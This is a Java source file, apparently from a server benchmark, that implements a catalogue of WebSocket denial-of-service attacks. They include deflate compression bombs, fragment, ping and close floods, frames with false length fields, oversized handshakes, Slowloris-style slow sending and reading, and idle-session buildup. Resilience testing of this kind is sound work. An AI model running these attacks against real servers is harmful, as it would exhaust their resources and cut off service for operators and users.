package dev.soto.benchmarks.attacks;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.zip.Deflater;

/** What attackers do, again and again; each ends with its connection, or when the server ends that. */
public enum Attack {
    BOMB_RATIO("bomb by ratio: 120 KiB of text in 150 bytes", true, 500) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open(DEFLATE);
            while (!attacker.isStopped()) {
                attacker.send(RATIO_BOMB);
            }
        }
    },
    BOMB_SIZE("bomb by size: 64 MiB in 64 KiB", true, 100_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open(DEFLATE);
            attacker.send(SIZE_BOMB);
            attacker.hold();
        }
    },
    ENDLESS_FRAGMENTS("a message in fragments of a byte that never ends", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
            attacker.send(frame(0x01, 1));
            byte[] fragments = repeated(frame(0x00, 1), 64);
            while (!attacker.isStopped()) {
                attacker.send(fragments);
            }
        }
    },
    EMPTY_FRAGMENTS("empty fragments that never end", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
            attacker.send(frame(0x01, 0));
            byte[] fragments = repeated(frame(0x00, 0), 64);
            while (!attacker.isStopped()) {
                attacker.send(fragments);
            }
        }
    },
    PINGS("flood of empty pings", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            flood(attacker, frame(0x89, 0));
        }
    },
    PONGS("flood of empty pongs", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            flood(attacker, frame(0x8A, 0));
        }
    },
    CLOSES("a session, and a hundred close frames", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
            attacker.send(repeated(frame(0x88, 0), 100));
            attacker.hold();
        }
    },
    TINY_MESSAGES("flood of empty messages", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            flood(attacker, frame(0x81, 0));
        }
    },
    BYTE_BY_BYTE("messages of 100 bytes, each byte a packet", false, 100) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
            byte[] message = frame(0x81, 100);
            while (!attacker.isStopped()) {
                for (byte b : message) {
                    attacker.send(new byte[] {b});
                }
            }
        }
    },
    HALF_OPEN("half a handshake, and then nothing", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.connect();
            byte[] handshake = Attacker.handshake();
            attacker.send(java.util.Arrays.copyOf(handshake, handshake.length / 2));
            attacker.hold();
        }
    },
    HEADERS("a handshake with 400 header fields", false, 100_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.connect();
            attacker.send(MANY_FIELDS);
            attacker.readHead();
        }
    },
    NEVER_FINISHED("100 KiB of a message, and then nothing", false, 100_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
            for (int i = 0; i < 100; i++) {
                attacker.send(frame(i == 0 ? 0x02 : 0x00, 1_024));
            }
            attacker.hold();
        }
    },
    LYING_LENGTH("a frame that promises 100 KiB and sends none", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
            attacker.send(new byte[] {(byte) 0x82, (byte) 0xFF, 0, 0, 0, 0, 0, 1, (byte) 0x90, 0, 0, 0, 0, 0});
            attacker.hold();
        }
    },
    IMPOSSIBLE_LENGTH("a frame that promises 4 EiB", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
            attacker.send(new byte[] {(byte) 0x82, (byte) 0xFF, 0x40, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0});
            attacker.hold();
        }
    },
    CHURN("handshake and reset", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
        }
    },
    SLOW_READING("asks for 64 KiB again and again, and reads nothing", false, 500_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
            byte[] message = frame(0x82, 65_536);
            while (!attacker.isStopped()) {
                attacker.sendWithoutReading(message);
            }
        }
    },
    SLOW_HANDSHAKE("Slowloris: a byte of a handshake each 50 ms", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.connect();
            for (byte b : Attacker.handshake("X-Padding: " + "x".repeat(4_000) + "\r\n")) {
                attacker.send(new byte[] {b});
                attacker.pause(50);
            }
        }
    },
    SLOW_FRAME("Slowloris: a byte of a message each 50 ms", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
            for (byte b : frame(0x81, 60_000)) {
                attacker.send(new byte[] {b});
                attacker.pause(50);
            }
        }
    },
    MANY_SESSIONS("another idle session every 300 ms", false, 10_000) {
        @Override
        void run(Attacker attacker) throws IOException, InterruptedException {
            attacker.open();
        }

        @Override
        boolean holds() {
            return true;
        }
    };

    private static final String DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
    private static final byte[] RATIO_BOMB = bomb(120 * 1024);
    private static final byte[] SIZE_BOMB = bomb(64 << 20);
    private static final byte[] MANY_FIELDS = Attacker.handshake(fields());

    private final String title;
    /** Whether it needs permessage-deflate. */
    private final boolean deflate;

    /** Most bytes a second of each attacker: enough to be felt, and no more than a few machines can send. */
    private final int bytesPerSecond;

    Attack(String title, boolean deflate, int bytesPerSecond) {
        this.title = title;
        this.deflate = deflate;
        this.bytesPerSecond = bytesPerSecond;
    }

    /** Does it once. */
    abstract void run(Attacker attacker) throws IOException, InterruptedException;

    /** Whether connections stay when it has been done. */
    boolean holds() {
        return false;
    }

    /** Returns how long an attacker waits before it does it again. */
    int pauseMillis() {
        return this == MANY_SESSIONS || this == HEADERS ? 300 : 100;
    }

    /** Returns what it is, in words. */
    public String title() {
        return title;
    }

    /** Returns whether it needs permessage-deflate. */
    public boolean needsDeflate() {
        return deflate;
    }

    int bytesPerSecond() {
        return bytesPerSecond;
    }

    /** Returns its name on the command line. */
    public String id() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }

    private static void flood(Attacker attacker, byte[] frame) throws IOException, InterruptedException {
        attacker.open();
        byte[] frames = repeated(frame, 64);
        while (!attacker.isStopped()) {
            attacker.send(frames);
        }
    }

    private static String[] fields() {
        String[] fields = new String[400];
        for (int i = 0; i < fields.length; i++) {
            fields[i] = "X-Field-" + i + ": " + "v".repeat(8) + "\r\n";
        }
        return fields;
    }

    private static byte[] repeated(byte[] frame, int times) {
        ByteBuffer all = ByteBuffer.allocate(frame.length * times);
        for (int i = 0; i < times; i++) {
            all.put(frame);
        }
        return all.array();
    }

    /** Returns a masked frame of letters, or of as many bytes. */
    private static byte[] frame(int head, int length) {
        return frame(head, "x".repeat(length).getBytes(StandardCharsets.US_ASCII));
    }

    private static byte[] frame(int head, byte[] payload) {
        ByteArrayOutputStream frame = new ByteArrayOutputStream(payload.length + 14);
        frame.write(head);
        if (payload.length < 126) {
            frame.write(0x80 | payload.length);
        } else if (payload.length < 65_536) {
            frame.write(0x80 | 126);
            frame.writeBytes(
                    ByteBuffer.allocate(2).putShort((short) payload.length).array());
        } else {
            frame.write(0x80 | 127);
            frame.writeBytes(ByteBuffer.allocate(8).putLong(payload.length).array());
        }
        // A masking key of zero.
        frame.writeBytes(new byte[4]);
        frame.writeBytes(payload);
        return frame.toByteArray();
    }

    private static byte[] bomb(int length) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        deflater.setInput("x".repeat(length).getBytes(StandardCharsets.US_ASCII));
        byte[] output = new byte[length / 500 + 1_000];
        int count = deflater.deflate(output, 0, output.length, Deflater.SYNC_FLUSH);
        deflater.end();
        // RFC 7692 section 7.2.1: without the last four bytes.
        return frame(0xC1, java.util.Arrays.copyOf(output, count - 4));
    }
}
